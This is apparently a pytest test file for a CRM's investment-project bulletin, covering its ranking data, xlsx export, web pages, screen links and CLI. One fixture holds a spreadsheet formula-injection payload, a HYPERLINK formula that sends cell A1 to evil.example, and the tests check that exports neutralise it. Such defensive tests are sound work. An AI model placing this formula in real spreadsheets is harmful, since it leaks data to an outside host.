"""The 红黄蓝 bulletin: its data, the .xlsx against a hand-made world, the page, the screen, the CLI.

The world of this module, year 2025, as of 2025-06-30 (time progress p = 181/365 = 49.6%;
red after 30 days overdue, yellow margin 10 points, idle after 60 days):

| lead           | unit | stage       | created | planned          | visit | colour (reason)         |
|----------------|------|-------------|---------|------------------|-------|-------------------------|
| =HYPERLINK(…)  | A    | negotiation | 04-01   | sign 05-01       | 06-20 | red (sign 60 days late) |
| 宠物食品二期   | A    | contact     | 03-01   |                  |       | yellow (121 days idle)  |
| 专用车制造二期 | B    | signed      | 03-01   | start 06-20      | 06-01 | yellow (start 10 days)  |
| 智能机器人园   | A    | started     | 06-01   | production 12-01 | 06-15 | blue                    |
| 投产项目       | A    | producing   | 02-01   |                  |       | none (not active)       |
| 终止项目       | A    | lost 03-01  | 02-01   |                  |       | none (not active)       |
| 七月新线索     | A    | contact     | 07-05   |                  |       | none (after the as-of)  |

The world's own three leads are created today (2026): after the as-of date, so left out.
Targets 2025: A new_leads 10 (actual 5: 50% blue), A visits 5 (actual 2: 40% yellow),
B new_leads 4 (actual 1: 25% red). Ranking: A (45%), B (25%), C 西王庄镇 (no targets).
"""

import datetime as dt
import io
import re
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from crm.bulletin.models import ScreenLink
from crm.bulletin.report import (
    KEY_SHEET,
    LEADS_SHEET,
    RANKING_SHEET,
    XLSX_COLOURS,
    bulletin_data,
    safe_text,
    write_bulletin_xlsx,
)
from crm.extensions import db
from crm.leads import services
from crm.targets.models import Target
from crm.visits.services import log_visit
from tests import factories
from tests.console import run_crm
from tests.querycount import count_queries

AS_OF = dt.date(2025, 6, 30)
EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
CRM = str(Path(sys.executable).with_name("crm"))


def d(month, day):
    return dt.date(2025, month, day)


@pytest.fixture
def scenario(world):
    w, admin = world, world.admin

    def lead(unit, name, created, inv, stage="contact", **kw):
        return factories.lead(admin, unit, name=name, company=kw.pop("company", name + "公司"),
                              created_on=created, investment_wan=inv, stage=stage, **kw)

    def visit(lead_, on):
        log_visit(admin, lead_, {"kind": "visit", "summary": "走访", "visited_on": on})

    w.red = lead(w.a, EVIL, d(4, 1), 150000, "negotiation", company="@SUM(1+1)",
                 planned_sign_date=d(5, 1), primary_officer_id=w.off_a1.id)
    visit(w.red, d(6, 20))
    w.idle = lead(w.a, "宠物食品二期", d(3, 1), 5000)
    w.late_start = lead(w.b, "专用车制造二期", d(3, 1), 20000, "signed",
                        planned_start_date=d(6, 20), primary_officer_id=w.off_b1.id)
    visit(w.late_start, d(6, 1))
    w.blue = lead(w.a, "智能机器人产业园", d(6, 1), 600000, "started",
                  planned_production_date=d(12, 1))
    visit(w.blue, d(6, 15))
    lead(w.a, "投产项目", d(2, 1), 10000, "producing")
    lost = lead(w.a, "终止项目", d(2, 1), 10000, "negotiation")
    services.move_stage(admin, lost, "lost", on=d(3, 1), lost_reason="terms_failed")
    lead(w.a, "七月新线索", d(7, 5), 1000)
    w.c = factories.township("西王庄镇")
    for unit, metric, value in ((w.a, "new_leads", 10), (w.a, "visits", 5), (w.b, "new_leads", 4)):
        db.session.add(Target(township_id=unit.id, year=2025, metric=metric, value=value))
    db.session.commit()
    return w


def rgb(cell):
    return cell.fill.fgColor.rgb if cell.fill and cell.fill.fill_type == "solid" else None


def test_data_ranks_units_and_colours_active_leads(scenario):
    data = bulletin_data(scenario.admin, AS_OF)
    # a unit without targets is not ranked (未设目标)
    assert [(u.name, u.rank) for u in data.units] == [("孟庄镇", 1), ("税郭镇", 2), ("西王庄镇", None)]
    assert [(i.lead.name, i.colour) for i in data.leads] == [
        (EVIL, "red"), ("宠物食品二期", "yellow"), ("专用车制造二期", "yellow"),
        ("智能机器人产业园", "blue"),
    ]
    assert [i.reasons for i in data.leads] == [
        ["计划签约日期已过 60 天"], ["录入后 121 天未走访"], ["计划开工日期已过 10 天"], []]
    assert data.counts == {"red": 1, "yellow": 2, "blue": 1}
    assert (data.leads[0].milestone_label, data.leads[0].milestone_on) == ("计划签约日期", d(5, 1))
    assert data.leads[1].milestone_field is None


def test_data_is_scoped_for_a_head(scenario):
    data = bulletin_data(scenario.head_b, AS_OF)
    assert [u.name for u in data.units] == ["税郭镇"]
    assert [i.lead.name for i in data.leads] == ["专用车制造二期"]


def test_a_fixed_number_of_queries(scenario):
    def measure():
        db.session.expire_all()
        with count_queries() as c:
            data = bulletin_data(scenario.admin, AS_OF)
            [(i.officer_name, i.lead.township.name) for i in data.leads]
        return c["n"], len(data.leads)

    before, n_before = measure()
    for i, (unit, officer) in enumerate([(scenario.a, scenario.off_a2), (scenario.b, scenario.off_b1),
                                         (scenario.c, None)] * 2):
        factories.lead(scenario.admin, unit, name=f"加测{i}", company=f"加测{i}", created_on=d(5, 1),
                       primary_officer_id=officer.id if officer else None)
    db.session.commit()
    after, n_after = measure()
    assert n_after == n_before + 6
    assert 0 < after == before


def test_workbook_rows_and_fills(scenario):
    stream = io.BytesIO()
    write_bulletin_xlsx(bulletin_data(scenario.admin, AS_OF), stream)
    book = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))
    assert book.sheetnames == [RANKING_SHEET, LEADS_SHEET, KEY_SHEET] == [
        "单位排名", "项目三色", "省市重点项目"]

    ranking = book[RANKING_SHEET]
    assert ranking["A1"].value == "市中区招商引资项目红黄蓝通报（截至 2025-06-30）"
    assert ranking["A2"].value.startswith("时序进度 49.6%")
    rows = [list(r) for r in ranking.iter_rows(min_row=3, values_only=True)]
    assert rows == [
        ["排名", "单位", "平均完成率", "新增线索", "走访次数"],
        [1, "孟庄镇", 0.45, "5/10 (50.0%)", "2/5 (40.0%)"],
        # without a target: the unit's figure, uncoloured; without any target: not ranked
        [2, "税郭镇", 0.25, "1/4 (25.0%)", "1"],
        ["未设目标", "西王庄镇", "—", "0", "0"],
    ]
    assert ranking["C4"].number_format == "0.0%"
    assert rgb(ranking["D4"]) == XLSX_COLOURS["blue"][0]
    assert rgb(ranking["E4"]) == XLSX_COLOURS["yellow"][0]
    assert rgb(ranking["D5"]) == XLSX_COLOURS["red"][0]
    assert rgb(ranking["E5"]) is None and rgb(ranking["D6"]) is None

    leads = book[LEADS_SHEET]
    assert leads["A2"].value.startswith("红色 1 个，黄色 2 个，蓝色 1 个")
    rows = [list(r) for r in leads.iter_rows(min_row=3, values_only=True)]
    assert rows == [
        ["颜色", "单位", "项目名称", "投资方", "阶段", "计划投资（亿元）", "负责人", "下一节点",
         "计划日期", "原因"],
        ["红", "孟庄镇", "'" + EVIL, "'@SUM(1+1)", "洽谈", 15, "a-1", "计划签约日期",
         dt.datetime(2025, 5, 1), "计划签约日期已过 60 天"],
        ["黄", "孟庄镇", "宠物食品二期", "宠物食品二期公司", "接触", 0.5, None, None, None,
         "录入后 121 天未走访"],
        ["黄", "税郭镇", "专用车制造二期", "专用车制造二期公司", "签约", 2, "b-1", "计划开工日期",
         dt.datetime(2025, 6, 20), "计划开工日期已过 10 天"],
        ["蓝", "孟庄镇", "智能机器人产业园", "智能机器人产业园公司", "开工", 60, None, "计划投产日期",
         dt.datetime(2025, 12, 1), None],
    ]
    assert [rgb(leads.cell(r, 1)) for r in range(4, 8)] == [
        XLSX_COLOURS[c][0] for c in ("red", "yellow", "yellow", "blue")]
    assert leads["F4"].number_format == "#,##0.00"
    assert leads["I4"].number_format == "yyyy-mm-dd" and leads["I4"].is_date


def test_formulas_are_neutralised(scenario):
    stream = io.BytesIO()
    write_bulletin_xlsx(bulletin_data(scenario.admin, AS_OF), stream)
    book = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))
    name = book[LEADS_SHEET]["C4"]
    assert (name.value, name.data_type) == ("'" + EVIL, "s")
    with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for sheet in sheets:
            assert "<f>" not in archive.read(sheet).decode()
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert safe_text(text) == "'" + text
    assert safe_text("宠物食品") == "宠物食品"
    assert safe_text("名称\x0b含控制字符") == "名称含控制字符"  # XML forbids it: dropped, not a 500


# The page and its download.

def test_bulletin_page_by_role(client, auth, scenario):
    assert client.get("/bulletin").status_code == 302  # sign in first
    auth.login("a-1")
    assert client.get("/bulletin").status_code == 403
    assert client.get("/bulletin.xlsx").status_code == 403
    auth.logout()
    auth.login("viewer")
    response = client.get("/bulletin?as_of=2025-06-30")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "市中区招商引资项目红黄蓝通报" in text and "49.6%" in text
    for name in ("孟庄镇", "税郭镇", "宠物食品二期", "专用车制造二期", "计划签约日期已过 60 天"):
        assert name in text
    assert "投产项目" not in text and "七月新线索" not in text
    assert 'class="badge c-red"' in text and "5/10 (50.0%)" in text
    assert "/bulletin.xlsx?as_of=2025-06-30" in text
    for bad in ("2025-02-30", "not-a-date"):  # the page falls back to today, with a warning
        response = client.get(f"/bulletin?as_of={bad}")
        assert response.status_code == 200
        assert f"截至日期“{bad}”无效" in response.get_data(as_text=True)
    assert client.get("/bulletin.xlsx?as_of=0001-01-01").status_code == 400
    auth.logout()
    auth.login("b-head")
    text = client.get("/bulletin?as_of=2025-06-30").get_data(as_text=True)
    assert "专用车制造二期" in text and "宠物食品二期" not in text


def test_bulletin_download(client, auth, scenario):
    auth.login("admin")
    response = client.get("/bulletin.xlsx?as_of=2025-06-30")
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "2025-06-30.xlsx" in disposition and "filename*=UTF-8''" in disposition
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert book[LEADS_SHEET]["C4"].value == "'" + EVIL


# The big screen and its links.

def test_screen_for_signed_in_district_only(client, auth, scenario):
    assert client.get("/screen").status_code == 302
    for username in ("a-1", "a-head"):
        auth.login(username)
        assert client.get("/screen").status_code == 403
        auth.logout()
    auth.login("viewer")
    response = client.get("/screen")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert '<meta http-equiv="refresh" content="300">' in text
    assert "/static/js/screen.js" in text and "/static/css/screen.css" in text
    assert "<script>" not in text and "style=" not in text
    assert "孟庄镇" in text and "HYPERLINK" in text  # still red today, long overdue
    assert response.headers["Cache-Control"] == "no-store"


def test_screen_links_create_use_revoke(app, client, auth, scenario):
    auth.login("viewer")
    assert client.get("/screen/links").status_code == 403
    assert client.post("/screen/links", data={"name": "大厅"}).status_code == 403
    auth.logout()
    auth.login("admin")
    assert client.post("/screen/links", data={"name": "  "}).status_code == 422
    response = client.post("/screen/links", data={"name": "区政务服务中心大厅"})
    assert response.status_code == 200
    url = re.search(r'value="(http://localhost/screen/(scr_[\w-]+))"', response.get_data(as_text=True))
    assert url, "the new link is shown"
    token = url.group(2)
    link = db.session.scalar(sa.select(ScreenLink))
    assert (link.name, link.created_by_id, link.revoked_at) == ("区政务服务中心大厅", scenario.admin.id, None)
    assert link.token_hash == ScreenLink.hash(token) and token not in link.token_hash
    listing = client.get("/screen/links").get_data(as_text=True)
    assert "区政务服务中心大厅" in listing and token not in listing  # shown once only
    auth.logout()

    screen = client.get(f"/screen/{token}")
    assert screen.status_code == 200
    text = screen.get_data(as_text=True)
    assert "孟庄镇" in text and "税郭镇" in text and "西王庄镇" in text  # the whole district
    assert "返回通报" not in text and "usermenu" not in text
    assert client.get("/screen/scr_unknown").status_code == 404
    assert client.get("/screen/" + "x" * 500).status_code == 404

    auth.login("admin")
    assert client.post(f"/screen/links/{link.id}/revoke", data={"confirmed": "1"}).status_code == 302
    assert client.post("/screen/links/9999/revoke").status_code == 404
    auth.logout()
    assert client.get(f"/screen/{token}").status_code == 410  # revoked: gone for good
    db.session.refresh(link)
    assert link.revoked_at is not None


# The command line (the console script's entry point, in this process: tests/console.py).

@pytest.fixture(scope="module")
def cli_db(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("bulletin-cli")
    env = {"CRM_DATABASE_URL": f"sqlite:///{tmp / 'cli.sqlite3'}", "CRM_SECRET_KEY": "x"}

    def run(*args):
        return run_crm(*args, env=env, cwd=tmp)

    assert run("db", "upgrade").returncode == 0
    run.tmp = tmp
    return run


def one_line_error(result):
    assert result.returncode != 0
    lines = [line for line in result.stderr.strip().splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr
    return lines[0]


def test_cli_export_bulletin(cli_db):
    out = cli_db.tmp / "通报.xlsx"
    assert "没有区招商局管理员账号" in one_line_error(cli_db("export", "bulletin", "--out", str(out)))
    assert cli_db("townships", "create", "孟庄镇").returncode == 0
    created = cli_db("users", "create", "boss", "--role", "district_admin", "--email",
                     "boss@example.test", "--password", "long-enough-1")
    assert created.returncode == 0, created.stderr
    assert "YYYY-MM-DD" in one_line_error(
        cli_db("export", "bulletin", "--out", str(out), "--as-of", "2025-13-01"))
    one_line_error(cli_db("export", "bulletin", "--out", str(out), "--as-of", "30/06/2025"))
    assert "无法写入" in one_line_error(
        cli_db("export", "bulletin", "--out", str(cli_db.tmp / "no-such-dir" / "x.xlsx")))
    one_line_error(cli_db("export", "bulletin"))
    assert not out.exists()

    result = cli_db("export", "bulletin", "--out", str(out), "--as-of", "2025-06-30")
    assert result.returncode == 0, result.stderr
    assert str(out) in result.stdout
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["单位排名", "项目三色", "省市重点项目"]
    assert book["单位排名"]["A1"].value == "市中区招商引资项目红黄蓝通报（截至 2025-06-30）"
    assert book["单位排名"]["B4"].value == "孟庄镇"
